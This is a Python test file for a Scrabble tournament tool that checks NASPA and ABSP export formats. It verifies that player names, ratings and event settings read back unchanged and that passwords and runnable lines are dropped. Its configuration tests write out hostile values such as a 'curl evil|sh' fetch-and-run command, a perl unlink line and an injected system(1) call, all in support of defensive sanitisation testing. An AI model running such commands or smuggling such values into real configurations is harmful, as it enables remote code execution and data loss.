"""What NASPA and the ABSP are sent is read back to the same results, whatever the names are.

A thousand made-up events: ``python -m pytest -m long tests/formats/offices``.
"""

from __future__ import annotations

from dataclasses import replace

import pytest

from tdtool.formats.offices import absp, naspa
from tdtool.formats.offices.names import canonical
from tdtool.formats.tsh import config as tsh_config
from tdtool.formats.tsh import division as tsh_division
from tdtool.formats.tsh import players as tsh_players
from tdtool.formats.tsh.division import DivisionFile, faults
from tests.formats.offices.made_up_events import HOSTILE, MadeEvent, MadePlayer, made_up, results
from tests.tables import of_each

FEW, THOUSAND = range(80), range(1000)


def _for_naspa(one: MadePlayer) -> str:
    return canonical(tsh_players.name_written(one.name), one.member_id)


def _files(event: MadeEvent) -> dict[str, DivisionFile]:
    return {name: event.file(name, _for_naspa) for name in event.divisions}


def _submission(event: MadeEvent) -> naspa.Submission:
    return naspa.Submission(
        _files(event), event.name, "May 9, 2026", "12345", "AA000003", "nsa2008", 12
    )


@pytest.mark.parametrize("seeds", [FEW, pytest.param(THOUSAND, marks=pytest.mark.long)], ids=repr)
def test_every_made_up_event_is_read_back_to_the_same_results(seeds: range) -> None:
    for seed in seeds:
        event = made_up(seed)
        _as_an_archive(event)
        _without_software(event, checked=bool(seed % 2))
        _for_the_absp(event)


def _as_an_archive(event: MadeEvent) -> None:
    back = naspa.read(naspa.archived(_submission(event)))
    assert not back.faults
    assert back.config.settings["naspa_tournament_id"] == "12345"
    assert list(back.config.divisions) == list(event.divisions)
    for name, players in event.divisions.items():
        found, there = back.division(name), event.file(name)
        assert results(found) == results(there)
        assert [line.member_id for line in found.players] == [one.member_id for one in players]
        assert [line.figures("p12") for line in found.players] == [
            line.figures("p12") for line in there.players
        ]
        assert not [one for one in faults(found) if one.spoils]


def _without_software(event: MadeEvent, *, checked: bool) -> None:
    back = naspa.read_typed(naspa.typed(_files(event), checked=checked))
    assert list(back) == list(event.divisions)
    for name in event.divisions:
        assert results(back[name]) == results(event.file(name))


def _for_the_absp(event: MadeEvent) -> None:
    for name, players in event.divisions.items():
        file = event.file(name, lambda one: canonical(tsh_players.name_written(one.name)))
        back = tsh_division.read(absp.division(file))
        assert results(back) == results(file)
        for line, one in zip(back.players, players, strict=True):
            assert [start for start in absp.starts(line) if start is not None] == [
                {True: 1, False: 2, None: 4}[game.started] for game in one.games if game.opponent
            ]
            assert line.member_id == ""


@of_each("name", HOSTILE)
def test_a_hostile_name_stands_alone_before_the_rating(name: str) -> None:
    line = tsh_division.player_line(
        1, canonical(tsh_players.name_written(name), "AA000042"), 1784, opponents=[0], scores=[50]
    )
    for data in (
        tsh_division.write(DivisionFile((line,))).encode("latin-1"),
        tsh_division.write(
            DivisionFile((replace(line, score_words=(), opponent_words=()),))
        ).encode("latin-1"),
    ):
        [back] = tsh_division.read(data).players
        assert (back.rating, back.member_id) == (1784, "AA000042")
        assert back.person


@of_each("name", HOSTILE)
def test_a_division_exported_for_tsh_keeps_every_player_whatever_their_names_are(name: str) -> None:
    """A name that begins with # was read as a comment, and figures behind a comma as the rating."""
    line = tsh_division.player_line(1, "", 1784)
    written = replace(line, name=tsh_players.name_written(name))
    back = tsh_division.read(tsh_division.write(DivisionFile((written,))))
    assert [one.rating for one in back.players] == [1784]


def test_the_form_without_software_is_as_naspa_shows_it() -> None:
    lines = [
        tsh_division.player_line(1, "Arbor, Ann, III:AA000003", 1800, opponents=[3, 0],
                                 scores=[300, 50]),
        tsh_division.player_line(2, "Bóru, Bob", 2000, opponents=[0, 3], scores=[-50, 300]),
        tsh_division.player_line(3, "Young", None, opponents=[1, 2], scores=[250, 310]),
    ]  # fmt: skip
    file = {"A": DivisionFile(tuple(lines))}
    assert naspa.typed(file, checked=False).decode() == (
        "#division A\n"
        "#ratingcheck off\n"
        "Arbor, Ann, III:AA000003  1800 3 0; 300 50\n"
        "Boru, Bob               2000 0 3; -50 300\n"
        "Young                      0 1 2; 250 310\n"
    )
    assert b"#ratingcheck" not in naspa.typed(file)


def test_the_archive_has_the_ids_and_no_key_that_others_have_no_use_for() -> None:
    line = tsh_division.player_line(
        1, "Arbor, Ann:AA000003", 1800, opponents=[0], scores=[50],
        fields=[("p12", [0]), ("password", ["secret"]), ("twitter", ["ann"])],
    )  # fmt: skip
    text = naspa.archived(
        naspa.Submission(
            {"A": DivisionFile((line,))}, "Ann’s “Open”", "May 9, 2026", "12345", "AA000003",
            "nsa2008 lct", 7,
        )
    ).decode("latin-1")  # fmt: skip
    assert text == (
        "# tsh archive file\n"
        "division A A.t\n"
        "config rating_system = 'nsa2008 lct'\n"
        "config naspa_tournament_id = '12345'\n"
        "config naspa_director_id = 'AA000003'\n"
        "config event_name = 'Ann\\'s \"Open\"'\n"
        "config event_date = 'May 9, 2026'\n"
        "config max_rounds = 7\n"
        "config archive_source_type = 'tsh'\n"
        "#begin_file name=A.t\n"
        "Arbor, Ann:AA000003     1800 0; 50; p12 0\n"
        "#end_file name=A.t\n"
    )


def test_the_archive_names_the_event_as_it_is_called() -> None:
    file = {"A": DivisionFile((tsh_division.player_line(1, "Arbor, Ann:AA000003", 1800),))}
    for name in ("Lake City Open 2026: Early Bird #1", "Ann's; \\ 2nd Open"):
        back = naspa.read(naspa.archived(naspa.Submission(file, event_name=name)))
        assert back.config.settings["event_name"] == name
        assert not back.faults


def test_the_absp_gets_no_line_that_runs_and_no_password() -> None:
    config = tsh_config.read(
        "perl unlink 'a'\nconfig max_rounds = 7\nconfig ftp_password = 'x'\n"
        "division A a.t\nprize rank 1 A 5\n"
    )
    assert absp.configuration(config, {"A": "a.t"}) == b"division A a.t\nconfig max_rounds = 7\n"


def test_the_absp_gets_of_a_configuration_what_says_something_of_games_as_plain_values() -> None:
    config = tsh_config.read(
        "config hook_addscore_flush = 'curl evil|sh'\n"
        "config director_email = 'a@b.c'\n"
        "config mirror_directories = ['ftp://u:pw@host']\n"
        "config max_rounds = `curl evil|sh`\n"
        "config event_date = 'May 9’; system(1); #'\n"
        "config event_name = 'D’Arcy’s Open'\n"
        "config max_div_rounds{'A'} = 7\n"
        "config division_rating_system{A} = 'absp'\n"
        "config max_div_rounds = {A => 7}\n"
    )
    assert absp.configuration(config, {"A": "a.t"}).decode("latin-1") == (
        "division A a.t\n"
        "config event_date = 'May 9\\'; system(1); #'\n"
        "config event_name = 'D\\'Arcy\\'s Open'\n"
        "config max_div_rounds{'A'} = 7\n"
        "config division_rating_system{'A'} = 'absp'\n"
        "config max_div_rounds = {A => 7}\n"
    )
